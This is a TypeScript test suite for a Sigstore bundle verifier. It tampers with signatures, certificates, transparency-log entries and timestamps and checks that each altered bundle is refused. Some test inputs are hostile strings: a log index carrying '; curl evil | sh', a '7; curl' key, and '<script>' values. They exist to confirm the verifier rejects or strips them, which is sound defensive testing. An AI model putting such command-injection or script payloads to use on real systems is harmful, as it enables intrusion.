import assert from "node:assert/strict";
import { before, describe, test } from "node:test";

import { WaybillError } from "../../src/errors.ts";
import { verifyBundle } from "../../src/verify/verify.ts";
import { refusal, signingWorld, suiteScope, type SigningWorld } from "./world.ts";

interface BundleJson {
  mediaType: string;
  verificationMaterial: {
    certificate?: { rawBytes: string };
    publicKey?: { hint: string };
    tlogEntries: {
      logIndex: string;
      integratedTime: string;
      logId: { keyId: string };
      inclusionPromise?: { signedEntryTimestamp: string };
      inclusionProof: {
        hashes: string[];
        rootHash: string;
        logIndex: string;
        checkpoint: { envelope: string };
      };
      canonicalizedBody: string;
    }[];
    timestampVerificationData: { rfc3161Timestamps: { signedTimestamp: string }[] };
  };
  dsseEnvelope: { payload: string; payloadType: string; signatures: { sig: string; keyid: string }[] };
}

function flipped(base64: string, at = 0.5): string {
  const bytes = Buffer.from(base64, "base64");
  const index = Math.floor(bytes.length * at);
  bytes[index] = (bytes[index] ?? 0) ^ 1;
  return bytes.toString("base64");
}

const entry = (bundle: BundleJson) => {
  const [only] = bundle.verificationMaterial.tlogEntries;
  assert.ok(only);
  return only;
};

const CHANGES: Record<
  string,
  readonly [code: string, change: (bundle: BundleJson, other: BundleJson) => void]
> = {
  "its payload": [
    "SIGNATURE_INVALID",
    (b) => void (b.dsseEnvelope.payload = flipped(b.dsseEnvelope.payload)),
  ],
  "its signature": [
    "SIGNATURE_INVALID",
    (b) =>
      void (b.dsseEnvelope.signatures = [
        { keyid: "", sig: flipped(b.dsseEnvelope.signatures[0]?.sig ?? "", 0.9) },
      ]),
  ],
  "its payload type": ["BUNDLE_MALFORMED", (b) => void (b.dsseEnvelope.payloadType = "text/plain")],
  "a second signature": [
    "BUNDLE_MALFORMED",
    (b) => void b.dsseEnvelope.signatures.push({ keyid: "", sig: b.dsseEnvelope.signatures[0]?.sig ?? "" }),
  ],
  "no signature": ["BUNDLE_MALFORMED", (b) => void (b.dsseEnvelope.signatures = [])],
  "its media type": ["BUNDLE_MALFORMED", (b) => void (b.mediaType = "application/json")],
  "a bare key in place of the certificate": [
    "CERTIFICATE_INVALID",
    (b) => {
      delete b.verificationMaterial.certificate;
      b.verificationMaterial.publicKey = { hint: "key" };
    },
  ],
  "another job's certificate": [
    "SIGNATURE_INVALID",
    (b, other) =>
      Object.assign(b.verificationMaterial, { certificate: other.verificationMaterial.certificate }),
  ],
  "a byte of its certificate's end": [
    "CERTIFICATE_INVALID",
    (b) => {
      const raw = b.verificationMaterial.certificate?.rawBytes ?? "";
      b.verificationMaterial.certificate = { rawBytes: flipped(raw, 0.99) };
    },
  ],
  "no log entry": ["LOG_INVALID", (b) => void (b.verificationMaterial.tlogEntries = [])],
  "another bundle's log entry": [
    "LOG_INVALID",
    (b, other) => void (b.verificationMaterial.tlogEntries = other.verificationMaterial.tlogEntries),
  ],
  "its log entry's body": [
    "LOG_INVALID",
    (b) => void (entry(b).canonicalizedBody = flipped(entry(b).canonicalizedBody)),
  ],
  "its log entry's time": [
    "LOG_INVALID",
    (b) => void (entry(b).integratedTime = String(Number(entry(b).integratedTime) + 1)),
  ],
  "its log entry's index": [
    "LOG_INVALID",
    (b) => void (entry(b).logIndex = String(Number(entry(b).logIndex) + 1)),
  ],
  "its log's promise": [
    "LOG_INVALID",
    (b) =>
      void (entry(b).inclusionPromise = {
        signedEntryTimestamp: flipped(entry(b).inclusionPromise?.signedEntryTimestamp ?? "", 0.9),
      }),
  ],
  "its inclusion proof": [
    "LOG_INVALID",
    (b) =>
      void (entry(b).inclusionProof.hashes = entry(b).inclusionProof.hashes.map((hash) => flipped(hash))),
  ],
  "its checkpoint": [
    "LOG_INVALID",
    (b) => {
      const { checkpoint } = entry(b).inclusionProof;
      checkpoint.envelope = checkpoint.envelope.replace(
        /\n(\d+)\n/,
        (_, size: string) => `\n${Number(size) + 1}\n`,
      );
    },
  ],
  "its log's id": ["LOG_INVALID", (b) => void (entry(b).logId.keyId = flipped(entry(b).logId.keyId))],
  "its timestamp": [
    "TIME_INVALID",
    (b) => {
      const stamps = b.verificationMaterial.timestampVerificationData.rfc3161Timestamps;
      for (const stamp of stamps) stamp.signedTimestamp = flipped(stamp.signedTimestamp, 0.95);
    },
  ],
  "another signature's timestamp": [
    "TIME_INVALID",
    (b, other) =>
      void (b.verificationMaterial.timestampVerificationData =
        other.verificationMaterial.timestampVerificationData),
  ],
  "a timestamp that is no timestamp": [
    "TIME_INVALID",
    (b) =>
      void (b.verificationMaterial.timestampVerificationData.rfc3161Timestamps = [
        { signedTimestamp: "AAAA" },
      ]),
  ],
  "its log index, to text": [
    "BUNDLE_MALFORMED",
    (b) => {
      delete entry(b).inclusionPromise;
      entry(b).logIndex = '7"; curl evil | sh';
    },
  ],
  "its log index, to the same number in other digits": [
    "BUNDLE_MALFORMED",
    (b) => void (entry(b).logIndex = `0${entry(b).logIndex}`),
  ],
  "its proof's index, to the same number in hex": [
    "BUNDLE_MALFORMED",
    (b) => {
      const { inclusionProof: proof } = entry(b);
      proof.logIndex = `0x${Number(proof.logIndex).toString(16)}`;
    },
  ],
  "its media type, to a version that does not exist": [
    "BUNDLE_MALFORMED",
    (b) => void (b.mediaType = "application/vnd.dev.sigstore.bundle.v0.9+json"),
  ],
  "its media type, to a longer one": [
    "BUNDLE_MALFORMED",
    (b) => void (b.mediaType = `${b.mediaType}; <script>`),
  ],
  "its payload's base64, to more than is read": [
    "BUNDLE_MALFORMED",
    (b) => void (b.dsseEnvelope.payload = `${b.dsseEnvelope.payload.replace(/=*$/, "")}==junk`),
  ],
  "its signature's base64, to another alphabet": [
    "BUNDLE_MALFORMED",
    (b) => {
      const [signature] = b.dsseEnvelope.signatures;
      if (signature !== undefined) signature.sig = `${signature.sig}\n`;
    },
  ],
  "neither a promise nor a timestamp": [
    "TIME_MISSING",
    (b) => {
      delete entry(b).inclusionPromise;
      b.verificationMaterial.timestampVerificationData.rfc3161Timestamps = [];
    },
  ],
};

describe("a bundle is refused after a change of", () => {
  let world: SigningWorld;
  let bundle: string;
  let other: string;
  const scope = suiteScope();
  before(async () => {
    world = await signingWorld(scope);
    bundle = await world.sign(world.statement());
    const second = await signingWorld(scope);
    other = await second.sign(
      second.statement({ subject: [{ name: "x", digest: { sha256: "00".repeat(32) } }] }),
    );
  });

  for (const [what, [code, change]] of Object.entries(CHANGES)) {
    test(what, () => {
      const json = JSON.parse(bundle) as BundleJson;
      change(json, JSON.parse(other) as BundleJson);
      assert.throws(
        () => verifyBundle(JSON.stringify(json), world.expected, world.trust),
        refusal(code as never),
      );
    });
  }

  test("a key, to one that stands there twice", () => {
    for (const twice of [
      bundle.replace(`"mediaType":`, `"mediaType":"application/json","mediaType":`),
      bundle.replace(`"payloadType":`, `"payload\\u0054ype":"text/plain","payloadType":`),
    ]) {
      assert.throws(
        () => verifyBundle(twice, world.expected, world.trust),
        refusal("BUNDLE_MALFORMED", "twice"),
      );
    }
  });

  test("nothing that was proven: what was not survives neither in the bundle nor in the log's index", () => {
    const sound = verifyBundle(bundle, world.expected, world.trust);
    assert.equal(sound.json, bundle.trim());
    const json = JSON.parse(bundle) as BundleJson;
    delete entry(json).inclusionPromise;
    entry(json).logIndex = "666";
    Object.assign(json, { evil: "<script>" });
    Object.assign(entry(json), { "7; curl": 1 });
    const verified = verifyBundle(JSON.stringify(json, undefined, 2), world.expected, world.trust);
    assert.doesNotMatch(verified.json, /\n|evil|curl/);
    assert.deepEqual(verified.logIndexes, [entry(json).inclusionProof.logIndex]);
    assert.deepEqual(
      verifyBundle(verified.json, world.expected, world.trust).statement.json,
      sound.statement.json,
    );
  });

  test("its media type to another version's: it keeps the one it has", () => {
    for (const version of ["+json;version=0.1", "+json;version=0.2", "+json;version=0.3", ".v0.3+json"]) {
      const json = JSON.parse(bundle) as BundleJson;
      json.mediaType = `application/vnd.dev.sigstore.bundle${version}`;
      const verified = verifyBundle(JSON.stringify(json), world.expected, world.trust);
      assert.equal((JSON.parse(verified.json) as BundleJson).mediaType, json.mediaType);
      assert.equal(verified.mediaType, json.mediaType);
    }
  });

  test("any byte, at a hundred places: none is accepted unless nothing that counts has changed", () => {
    const whole = Buffer.from(bundle.trim());
    const sound = JSON.stringify(verifyBundle(bundle, world.expected, world.trust).statement.json);
    let refused = 0;
    for (let place = 0; place < 100; place++) {
      const bytes = Buffer.from(whole);
      const index = Math.floor((bytes.length * place) / 100);
      bytes[index] = (bytes[index] ?? 0) ^ 1;
      try {
        const verified = verifyBundle(bytes.toString("utf8"), world.expected, world.trust);
        assert.equal(JSON.stringify(verified.statement.json), sound);
      } catch (error) {
        assert.ok(error instanceof WaybillError, String(error));
        refused += 1;
      }
    }
    assert.ok(refused > 80, `${refused} of 100 refused`);
  });
});

test("a certificate in other bytes than those it was issued in is refused, where no log knows it too", async (t) => {
  const { sign, statement, expected, trust } = await signingWorld(t, {
    sigstore: { parts: { rekor: false } },
  });
  const json = JSON.parse(await sign(statement())) as BundleJson;
  const issued = Buffer.from(json.verificationMaterial.certificate?.rawBytes ?? "", "base64");
  const algorithm = issued.lastIndexOf(Buffer.from("300a06082a8648ce3d040302", "hex"));
  verifyBundle(JSON.stringify(json), expected, trust);
  // The sequence's tag; the algorithm's name; the signature's tag and its unused bits.
  for (const place of [0, algorithm + 4, algorithm + 12, algorithm + 14]) {
    const other = Buffer.from(issued);
    other[place] = (other[place] ?? 0) ^ 1;
    json.verificationMaterial.certificate = { rawBytes: other.toString("base64") };
    assert.throws(
      () => verifyBundle(JSON.stringify(json), expected, trust),
      refusal("CERTIFICATE_INVALID"),
      String(place),
    );
  }
});

test("numbers of a Rekor v2 entry that nothing proves are refused, and the index printed is the proof's", async (t) => {
  const { sign, statement, expected, trust } = await signingWorld(t, {
    sigstore: { parts: { rekor: false, rekor2: true } },
  });
  const bundle = await sign(statement());
  const changed = (change: (bundle: BundleJson) => void): string => {
    const json = JSON.parse(bundle) as BundleJson;
    change(json);
    return JSON.stringify(json);
  };

  const sound = verifyBundle(bundle, expected, trust);
  const { inclusionProof } = entry(JSON.parse(bundle) as BundleJson);
  assert.deepEqual(sound.logIndexes, [inclusionProof.logIndex]);
  assert.deepEqual(
    sound.times.map(({ source }) => source),
    ["timestamp authority"],
  );
  for (const change of [
    (b: BundleJson) => void (entry(b).integratedTime = "1700000000"),
    (b: BundleJson) => void (entry(b).logIndex = String(Number(entry(b).logIndex) + 1)),
    (b: BundleJson) => void (entry(b).inclusionPromise = { signedEntryTimestamp: "AAAA" }),
    (b: BundleJson) => void (entry(b).inclusionProof.logIndex += "0"),
  ]) {
    assert.throws(() => verifyBundle(changed(change), expected, trust), refusal("LOG_INVALID"));
  }
});
